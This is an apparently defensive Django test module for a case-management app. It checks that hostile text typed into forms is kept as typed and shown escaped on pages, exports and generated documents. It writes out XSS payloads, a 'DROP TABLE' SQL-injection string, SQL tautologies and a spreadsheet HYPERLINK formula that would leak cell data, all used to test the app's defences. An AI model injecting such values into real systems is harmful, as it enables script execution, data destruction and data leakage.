"""A script in a name is a name: kept as typed, shown escaped on every page, in every paper, never a part of the
page.
"""

from __future__ import annotations

import io
import re
import zipfile

import pytest
from django import forms
from django.db import transaction
from django.test import TestCase
from django.urls import reverse
from django.utils.html import escape
from openpyxl import load_workbook

from sanwei.acts.models import FactRow
from sanwei.acts.rows import Rows
from sanwei.cases.models import Case, Party
from sanwei.documents.models import Document
from unit.answering import faults, refusals
from unit.filling import Open, World, made

EVIL = "\"><svg onload=alert(1)><script>alert('1')</script>"
RAW = ("<svg onload", "<script>alert")
WILD = "百分之%_公司'; DROP TABLE cases_case; --"
# A page of ours has one script in its head and no handler on any element.
SCRIPTS = re.compile(r"<script(?![^>]*\bsrc=\"/static/)")


def texts(one: Open) -> dict[str, str]:
    """The questions of an act that take any text."""
    fields = one.form().fields.items()
    free, held = (forms.RegexField, forms.ChoiceField), ("party_code", "coparty_code", "things", "deferral_plan")
    return {n: EVIL for n, f in fields if isinstance(f, forms.CharField) and not isinstance(f, free)
            and not f.widget.is_hidden and n not in held}  # fmt: skip


@pytest.mark.forms
class Scripts(TestCase):
    """One world for all tests; what a test writes is rolled back."""

    maxDiff = None

    @classmethod
    def setUpTestData(cls) -> None:
        cls.world = World.build()

    def clean(self, page: str) -> list[str]:
        """What in a page is not ours."""
        return [raw for raw in RAW if raw in page] + SCRIPTS.findall(page)

    def test_a_script_in_every_text_of_every_form_is_kept_and_shown_as_text(self) -> None:
        amiss, typed = {}, 0
        for one in self.world:
            evil = texts(one)
            mark = transaction.savepoint()
            answer = one.send(one.post(**evil))
            if answer.status_code != 302:
                amiss[one.act.code] = (answer.status_code, faults(answer), refusals(answer))
                continue
            with_page = self._at(one, answer.url)
            if found := self.clean(with_page):
                amiss[one.act.code] = found
            facts = [v for row in FactRow.objects.all() for v in row.facts.values()]
            typed += facts.count(EVIL)
            if (
                evil.keys() - {"return_note", "amendment", "exclusion_note", "amendment_reason"}
                and escape(EVIL) not in with_page
            ):
                amiss[one.act.code] = "not shown"
            transaction.savepoint_rollback(mark)
        self.assertEqual(amiss, {})
        self.assertGreater(typed, 60)

    def _at(self, one: Open, url: str) -> str:
        return one.client().get(url).content.decode()

    def test_a_refused_form_shows_a_script_as_text(self) -> None:
        amiss = {}
        for one in self.world:
            answer = one.send(one.post(**texts(one), token=EVIL * 3))
            page = answer.content.decode()
            if answer.status_code != 422 or self.clean(page) or escape(EVIL * 3) not in page:
                amiss[one.act.code] = (answer.status_code, self.clean(page))
        self.assertEqual(amiss, {})

    def test_a_party_with_a_script_for_a_name_is_harmless_on_every_page_and_in_every_paper(self) -> None:
        lead = self.world["register_lead"]
        case = made(lead.send(lead.post(**texts(lead))))
        url = case.get_absolute_url()
        self.assertEqual((case.party_name, Party.objects.get(case=case).representative), (EVIL, EVIL))
        self.assertEqual(Rows.read(case.pk).head["lead_place"], EVIL)
        shown = [
            url,
            reverse("cases:list") + "?stage=lead",
            reverse("desk:search") + "?q=alert",
            reverse("cases:do", args=[case.pk, "propose_filing"]),
        ]
        for path in [*shown, reverse("desk:home"), reverse("desk:duties")]:
            page = self._at(lead, path)
            self.assertEqual(self.clean(page), [], path)
            self.assertTrue(path not in shown or escape(EVIL) in page, path)

    def test_a_name_that_looks_like_a_formula_is_text_in_the_sheet(self) -> None:
        lead = self.world["register_lead"]
        evil = '=HYPERLINK("http://example.invalid/"&A1,"点这里")'
        lead.send(lead.post(party_name=evil))
        lead.send(lead.post(party_name=EVIL))
        sheet = load_workbook(io.BytesIO(lead.client().get(reverse("cases:export")).content)).active
        found = {cell.value: cell.data_type for row in sheet.iter_rows() for cell in row}
        self.assertEqual((found[f"'{evil}"], found[EVIL]), ("s", "s"))
        self.assertNotIn("f", found.values())

    def test_a_paper_shows_a_script_as_text(self) -> None:
        one = self.world["issue_decision"]
        Party.objects.filter(case=one.case).update(name=EVIL, address=EVIL)
        self.assertEqual(one.send(one.post()).status_code, 302)
        paper = Document.objects.get(form_code="penalty_decision", matter_id=str(one.case.pk))
        answer = one.client().get(reverse("documents:file", args=[paper.pk, "docx"]))
        self.assertEqual(answer.status_code, 200)
        text = zipfile.ZipFile(io.BytesIO(answer.content)).read("word/document.xml").decode()
        self.assertNotIn("<svg", text)
        self.assertIn("&lt;svg onload=alert(1)&gt;", text)

    def test_wildcards_and_quotes_of_sql_are_letters(self) -> None:
        lead = self.world["register_lead"]
        case = made(lead.send(lead.post(party_name=WILD, lead_place=WILD, lead_summary=WILD)))
        self.assertEqual((case.party_name, Rows.read(case.pk).head["lead_summary"]), (WILD, WILD))
        for question, found in (("百分之", True), ("DROP TABLE", True), ("%", False), ("_", False), ("%%%", False),
                                ("' OR '1'='1", False), ("\"*\" OR a", False), ("百分之\x00", True)):  # fmt: skip
            answer = lead.client().get(reverse("desk:search"), {"q": question})
            self.assertEqual((answer.status_code, str(case.pk) in answer.content.decode()), (200, found), question)
            others = Case.objects.exclude(pk=case.pk).values_list("pk", flat=True)
            self.assertFalse(any(str(pk) in answer.content.decode() for pk in others), question)

    def test_what_cannot_be_seen_stays_out_of_the_papers(self) -> None:
        """Control characters and a text turned from right to left: the papers are still papers."""
        one = self.world["issue_decision"]
        Party.objects.filter(case=one.case).update(name="郑州\x01示例\u202e公司\x0b", address="示例路\x08 8 号")
        self.assertEqual(one.send(one.post()).status_code, 302)
        paper = Document.objects.get(form_code="penalty_decision", matter_id=str(one.case.pk))
        for kind in ("docx", "pdf"):
            answer = one.client().get(reverse("documents:file", args=[paper.pk, kind]))
            self.assertEqual(answer.status_code, 200, kind)
        self.assertIn("郑州示例公司", str(paper.data))
